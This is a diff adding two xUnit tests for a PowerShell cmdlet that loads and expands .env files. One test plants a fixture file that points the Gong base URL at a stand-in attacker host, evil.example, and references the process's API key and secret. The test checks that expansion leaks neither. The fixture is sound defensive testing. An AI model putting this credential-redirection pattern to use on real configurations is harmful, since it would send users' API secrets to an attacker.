@@ -26,6 +26,24 @@ public sealed class ConnectSophiaEnvironmentTests(SandboxFixture sandbox) : Cmdl
     }
 
     [Fact]
+    public void A_file_is_expanded_from_itself_and_takes_no_credential_from_the_process()
+    {
+        string file = Folder.Write("b.env", "HOST=evil.example\nGONG_BASE_URL=https://${HOST}\nGONG_API_KEY=${GONG_API_KEY}\nGONG_API_SECRET=x${GONG_API_SECRET}\n");
+        EngineResult result = Run($"$null = Connect-SophiaEnvironment -EnvFile '{file}' -Expand; (Get-SophiaSetting Gong Url).Value; Get-GongWorkspace");
+        Assert.Equal("https://evil.example", result.Output[0].ToString());
+        Assert.Single(result.Errors);
+        Assert.Equal(0, Requests("gong"));
+        Assert.DoesNotContain(Environment.GetEnvironmentVariable("GONG_API_SECRET")!, Run("(Get-SophiaSetting Gong).Value -join ' '").Everything, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void Expand_puts_earlier_lines_in()
+    {
+        string file = Folder.Write("c.env", "ROLE=from_file\nSNOWFLAKE_ROLE=${ROLE}_${NOWHERE:-default}\nSNOWFLAKE_USER='${ROLE}'\n");
+        Assert.Equal(["${ROLE}", "from_file_default"], Run($"$null = Connect-SophiaEnvironment -EnvFile '{file}' -Expand; Get-SophiaSetting Snowflake User, Role").Values("Value"));
+    }
+
+    [Fact]
     public void An_environment_that_does_not_exist_is_an_error_about_what_was_typed()
     {
         EngineResult result = Run("Connect-SophiaEnvironment nowhere");
